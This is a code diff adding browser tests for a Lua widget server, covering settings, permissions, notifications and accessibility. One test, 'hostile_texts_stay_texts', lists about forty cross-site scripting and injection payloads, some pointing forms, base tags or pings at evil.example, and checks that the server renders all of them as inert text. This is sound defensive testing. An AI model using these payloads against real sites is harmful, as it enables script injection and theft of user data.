@@ -56,9 +56,11 @@ class Board:
     """A running `luawidget serve` with its own folder."""
 
     running = []
+    pages = []
 
-    def __init__(self, program, widgets):
+    def __init__(self, program, widgets, arguments=()):
         self.program = program
+        self.arguments = list(arguments)
         self.folder = Path(tempfile.mkdtemp(prefix="luawidget-browser-"))
         boards = self.folder / ".config/luawidget/boards"
         boards.mkdir(parents=True)
@@ -78,7 +80,7 @@ class Board:
     def start(self, port=0):
         environment = {"HOME": str(self.folder), "PATH": "/usr/bin:/bin", "LANG": "en_US.UTF-8", "TZ": "UTC"}
         self.process = subprocess.Popen(
-            [self.program, "serve", "--port", str(port), "--quiet"], env=environment, stdout=subprocess.PIPE, text=True)
+            [self.program, "serve", "--port", str(port), "--quiet"] + self.arguments, env=environment, stdout=subprocess.PIPE, text=True)
         self.address = self.process.stdout.readline().strip()
         self.port = int(re.search(r":(\d+)/", self.address)[1])
         Board.running.append(self)
@@ -112,6 +114,7 @@ class Page:
         self.errors = []
         self.page.on("console", lambda message: self.errors.append(message.text) if message.type in ("error", "warning") else None)
         self.page.on("pageerror", lambda error: self.errors.append(str(error)))
+        Board.pages.append(self)
         self.page.goto(board.address)
         if not script:
             self.page.get_by_role("button", name="Open the board").click()
@@ -134,8 +137,10 @@ def shows_cards_and_no_errors(program, browser):
     wait_text(page.page, "counter", "count 0")
     wait_text(page.page, "text", "plain")
     assert page.page.locator("h1").count() == 1
-    page.page.wait_for_timeout(1500)
-    assert page.errors == [], page.errors
+    for path in ("add", "access", "settings?widget=text", "settings?widget=none", "widgets/text.html", "widgets/text.svg"):
+        page.page.goto(f"http://127.0.0.1:{board.port}/{path}")
+    # The status of a page that does not exist is a message of the browser itself.
+    page.errors = [error for error in page.errors if "404 (Not Found)" not in error]
     return board
 
 
@@ -150,9 +155,8 @@ def taps_and_keeps_the_focus(program, browser):
         page.page.keyboard.press("Enter")
         wait_text(page.page, "counter", f"count {count}")
         assert page.page.evaluate("document.activeElement.innerText.trim()") == "Add"
-    page.page.get_by_role("button", name="row").click()
+    page.page.get_by_role("button", name="row", exact=True).click()
     wait_text(page.page, "counter", "count 13")
-    assert page.errors == [], page.errors
     return board
 
 
@@ -316,6 +320,222 @@ def adds_and_removes_a_widget(program, browser):
 
 
 @check
+def the_first_paint_comes_before_any_update(program, browser):
+    board = Board(program, {"a.lua": TEXT % "stored"})
+    page = Page(browser, board)
+    wait_text(page.page, "a", "stored")
+    port = board.port
+    board.stop()
+    board.write("a.lua", "function content() while true do end end\n")
+    board.start(port)
+    # The page of a session is complete at once: no update has ended, and none will.
+    html = page.context.request.get(f"http://127.0.0.1:{port}/").text()
+    assert "stored" in html, html
+    page.page.goto(f"http://127.0.0.1:{port}/")
+    assert "stored" in text_of(page.page, "a")
+    return board
+
+
+@check
+def expands_a_card_by_keyboard(program, browser):
+    source = """
+widget { largest_display_mode = "expanded" }
+function content(context) return ui.text { context.display_mode == "compact" and "short" or "all of it" } end
+"""
+    board = Board(program, {"a.lua": source})
+    page = Page(browser, board)
+    wait_text(page.page, "a", "all of it")
+    page.page.get_by_role("button", name="Show less of a").focus()
+    page.page.keyboard.press("Enter")
+    wait_text(page.page, "a", "short")
+    page.page.get_by_role("button", name="Show more of a").focus()
+    page.page.keyboard.press("Enter")
+    wait_text(page.page, "a", "all of it")
+    return board
+
+
+@check
+def refuses_wrong_settings_and_never_shows_a_secret(program, browser):
+    source = """
+widget { settings = {
+  count = { type = "integer", default = 3, label = "Count" },
+  color = { type = "color", default = "red", label = "Colour" },
+  key = { type = "secret", label = "Key" },
+} }
+function content() return ui.text { "count " .. settings.count } end
+"""
+    board = Board(program, {"a.lua": source})
+    page = Page(browser, board)
+    wait_text(page.page, "a", "count 3")
+    address = f"http://127.0.0.1:{board.port}/settings?widget=a"
+    page.page.goto(address)
+    page.page.get_by_label("Colour").fill("no colour")
+    page.page.get_by_label("Count").fill("7")
+    page.page.get_by_label("Key").fill("the-secret")
+    page.page.get_by_role("button", name="Save").click()
+    page.page.get_by_role("alert").wait_for()
+    assert "Colour must be a colour" in page.page.get_by_role("alert").inner_text()
+    assert page.page.get_by_label("Colour").input_value() == "no colour"
+    assert page.page.get_by_label("Count").input_value() == "7"
+    assert "count" not in (board.folder / ".config/luawidget/boards/today.toml").read_text()
+    page.page.get_by_label("Colour").fill("blue")
+    page.page.get_by_label("Key").fill("the-secret")
+    page.page.get_by_role("button", name="Save").click()
+    wait_text(page.page, "a", "count 7")
+    page.page.goto(address)
+    assert page.page.get_by_label("Key").input_value() == ""
+    assert "the-secret" not in page.page.content()
+    page.page.get_by_text("A value is stored.").wait_for()
+    # The status of a refused form is a message of the browser itself.
+    page.errors = [error for error in page.errors if "422" not in error]
+    return board
+
+
+@check
+def asks_for_permissions(program, browser):
+    source = """
+widget { permissions = { env = { "HOME" } } }
+function content() return ui.text { env.get("HOME") and "allowed" or "not allowed" } end
+"""
+    board = Board(program, {"a.lua": source})
+    page = Page(browser, board)
+    page.page.get_by_role("button", name="Always: reading the environment variable").click()
+    page.page.wait_for_function("() => document.querySelector('.permissions') === null", timeout=30000)
+    wait_text(page.page, "a", "allowed")
+    page.page.wait_for_function(
+        "() => !document.getElementById('card-a').innerText.includes('not allowed')", timeout=30000)
+    return board
+
+
+@check
+def the_console_is_a_drawer_for_authors(program, browser):
+    source = 'function content() print("printed by a") return ui.text { "view" } end\n'
+    board = Board(program, {"a.lua": source}, ["--watch"])
+    page = Page(browser, board)
+    wait_text(page.page, "a", "view")
+    page.page.locator("#console summary").click()
+    page.page.locator("#console").get_by_text("printed by a").first.wait_for()
+    return board
+
+
+@check
+def notifies_where_the_user_asked(program, browser):
+    source = """
+widget { permissions = { notify = true } }
+function content()
+  return ui.button { "Remind", action = function() notify { title = "Tea", body = "is <b>ready</b>", id = "tea" } end }
+end
+"""
+    board = Board(program, {"a.lua": source})
+    page = Page(browser, board)
+    page.page.add_init_script("""
+        window.notifications = [];
+        window.Notification = class extends EventTarget {
+          static permission = 'default';
+          static async requestPermission() { return this.permission = 'granted'; }
+          constructor(title, options) { super(); notifications.push([title, options.body, options.tag]); }
+          close() {}
+        };
+    """)
+    page.page.reload()
+    page.page.get_by_role("button", name="Always: showing notifications").click()
+    page.page.wait_for_function("() => document.querySelector('.permissions') === null", timeout=30000)
+    bell = page.page.get_by_role("button", name="Notifications in this browser")
+    assert bell.get_attribute("aria-pressed") == "false"
+    with page.page.expect_request(lambda request: "notify=1" in request.url):
+        bell.click()
+    page.page.wait_for_function("() => document.getElementById('notify').ariaPressed === 'true'", timeout=30000)
+    other = page.context.new_page()
+    other.goto(f"http://127.0.0.1:{board.port}/")
+    for _ in range(100):
+        page.page.get_by_role("button", name="Remind").click()
+        page.page.wait_for_timeout(300)
+        if page.page.evaluate("notifications.length"):
+            break
+    assert page.page.evaluate("notifications[0].slice(0, 2)") == ["Tea", "is <b>ready</b>"]
+    return board
+
+
+@check
+def hostile_texts_stay_texts(program, browser):
+    """40 attempts through every text field: nothing runs, nothing is loaded, and no element is added."""
+    hostile = [
+        "<script>alert(1)</script>", "</article><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)",
+        '" autofocus onfocus=alert(1) x="', "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
+        "</title><script>alert(1)</script>", "<!--", "-->", "<![CDATA[", "]]>", "<iframe srcdoc='<script>alert(1)</script>'>",
+        "<svg onload=alert(1)>", "<math><mtext></form><form>", "<form action=//evil.example><input name=token>",
+        "</form><form id=actions action=//evil.example>", "<base href=//evil.example>",
+        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>", "<object data=x>",
+        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
+        "vbscript:x", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "\\u003cscript\\u003e", "&lt;script&gt;alert(1)",
+        "&#60;script&#62;alert(1)", "\u2028alert(1)\u2029", "\n\nevent: card\ndata: {}\n\n", "\r\nSet-Cookie: a=b", "\u202etpircs",
+        "\ufeff<script>alert(1)</script>", "+ADw-script+AD4-alert(1)", "<button formaction=//evil.example form=actions>",
+        '<a href="/logout" ping=//evil.example>', "<template shadowrootmode=open><slot>", "}*{background:url(//evil.example)}",
+    ]
+    assert len(hostile) >= 40
+
+    def lua(text):
+        return '"' + "".join(f"\\{byte:03}" for byte in text.encode()) + '"'
+
+    def source(number, text):
+        return f"""
+widget {{ name = {lua(text)}, settings = {{ a = {{ type = "string", default = {lua(text)}, label = {lua(text)}, description = {lua(text)} }} }} }}
+local s = {lua(text)}
+function content()
+  print(s)
+  return ui.vstack {{
+    ui.text {{ "mark{number}." }}, ui.text {{ s }}, ui.text {{ s, accessibility = s, id = s }}, ui.label {{ s, icon = "star" }},
+    ui.button {{ s, action = function() end, id = s .. "b" }}, ui.toggle {{ s, on = true, action = function() end }},
+    ui.hstack {{ ui.text {{ s }}, on_tap = function() end, accessibility = s }},
+    ui.progress {{ value = 0.5, accessibility = s }},
+    ui.chart {{ type = "bar", labels = {{ s }}, series = {{ {{ name = s, values = {{ 1 }} }} }} }},
+  }}
+end
+"""
+
+    count = "[...document.querySelectorAll('#card-a *')].filter(e => !e.closest('svg')).length"
+    board = Board(program, {"a.lua": source(0, "harmless")})
+    page = Page(browser, board)
+    dialogs, requests = [], []
+    page.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.page.on("request", lambda request: requests.append(request.url))
+    wait_text(page.page, "a", "mark0.")
+    elements = page.page.evaluate(count)
+    for number, text in enumerate(hostile, 1):
+        board.write("a.lua", source(number, text))
+        wait_text(page.page, "a", f"mark{number}.")
+        page.page.wait_for_function(f"count => {count} === count", arg=elements, timeout=30000)
+        page.page.reload()
+        wait_text(page.page, "a", f"mark{number}.")
+    page.page.goto(f"http://127.0.0.1:{board.port}/settings?widget=a")
+    page.page.get_by_role("button", name="Save").wait_for()
+    origin = f"http://127.0.0.1:{board.port}/"
+    assert dialogs == [], dialogs
+    assert [url for url in requests if not url.startswith(origin) and not url.startswith("data:image/")] == [], requests
+    assert page.page.locator("script").count() == 1
+    return board
+
+
+@check
+def labels_and_values_are_lists_of_descriptions(program, browser):
+    source = """
+local function row(name, value) return ui.hstack { ui.text { name }, ui.spacer(), ui.text { value } } end
+function content() return ui.vstack { ui.text { "Title" }, row("Boarding", "12:05"), row("Takeoff", "12:45") } end
+"""
+    board = Board(program, {"a.lua": source})
+    page = Page(browser, board)
+    wait_text(page.page, "a", "12:45")
+    terms = page.page.locator("#card-a dl > div > dt").all_inner_texts()
+    values = page.page.locator("#card-a dl > div > dd").all_inner_texts()
+    assert (terms, values) == (["Boarding", "Takeoff"], ["12:05", "12:45"]), (terms, values)
+    left, right = (page.page.locator(f"#card-a {name}").first.bounding_box() for name in ("dt", "dd"))
+    card = page.page.locator("#card-a").bounding_box()
+    assert abs(right["x"] + right["width"] - (card["x"] + card["width"] - 16)) < 1.5, (right, card)
+    assert left["y"] == right["y"], (left, right)
+    return board
+
+
+@check
 def has_names_for_all_controls_and_contrast(program, browser):
     board = Board(program, {"counter.lua": COUNTER})
     page = Page(browser, board)
@@ -333,6 +553,9 @@ def has_names_for_all_controls_and_contrast(program, browser):
         assert low == [], low
     return board
 
+
+# The browser reports requests that fail while a server is gone.
+ENDS_SERVERS = {the_server_may_crash, luawidget_may_restart, the_first_paint_comes_before_any_update}
 
 # The texts whose contrast with the nearest background is below WCAG AA.
 CONTRAST = """
@@ -357,10 +580,13 @@ CONTRAST = """
 
 def take_images(program, browser, folder):
     folder.mkdir(parents=True, exist_ok=True)
-    names = ["disk", "system", "controls", "charts", "flight"]
-    files = [p for n in names for p in (ROOT / "widgets" / f"{n}.lua", ROOT / "examples" / f"{n}.lua") if p.exists()]
-    board = Board(program, {str(p): "" for p in files})
+    files = [ROOT / name for name in (
+        "widgets/flight.lua", "examples/gauge.lua", "examples/chart.lua", "widgets/disk.lua", "examples/controls.lua",
+        "examples/calendar.lua", "examples/markdown.lua")]
+    board = Board(program, {str(path): "" for path in files})
     page = Page(browser, board)
+    # The flight widget asks for a permission.
+    page.page.get_by_role("button", name=re.compile("^Always: ")).first.click()
     page.page.wait_for_timeout(4000)
     for width, height in ((390, 844), (820, 1180), (1440, 900)):
         for scheme in ("light", "dark"):
@@ -368,9 +594,12 @@ def take_images(program, browser, folder):
             page.page.emulate_media(color_scheme=scheme)
             page.page.wait_for_timeout(2500)
             page.page.screenshot(path=str(folder / f"serve-{width}-{scheme}.png"))
-    for path in ("add", "access", "settings?widget=" + files[0].stem):
+    page.page.set_viewport_size({"width": 820, "height": 700})
+    for path in ("add", "access", "settings?widget=flight"):
         page.page.goto(f"http://127.0.0.1:{board.port}/{path}")
-        page.page.screenshot(path=str(folder / f"serve-{path.split('?')[0]}.png"))
+        for scheme in ("light", "dark"):
+            page.page.emulate_media(color_scheme=scheme)
+            page.page.screenshot(path=str(folder / f"serve-{path.split('?')[0]}-{scheme}.png"))
     board.stop()
 
 
@@ -391,12 +620,17 @@ def main():
                 if arguments and not any(word in function.__name__ for word in arguments):
                     continue
                 try:
-                    function(program, browser).stop()
+                    board = function(program, browser)
+                    errors = [error for page in Board.pages for error in page.errors]
+                    assert not errors or function in ENDS_SERVERS, errors
+                    board.stop()
                     print("ok  ", function.__name__, flush=True)
                 except Exception as error:  # each check reports its own failure
                     failed += 1
                     line = [frame.lineno for frame in traceback.extract_tb(error.__traceback__) if frame.filename == __file__][-1]
                     print(f"FAIL {function.__name__} (line {line}) - {error}", flush=True)
+                while Board.pages:
+                    Board.pages.pop().context.close()
                 while Board.running:
                     Board.running.pop().kill()
         browser.close()
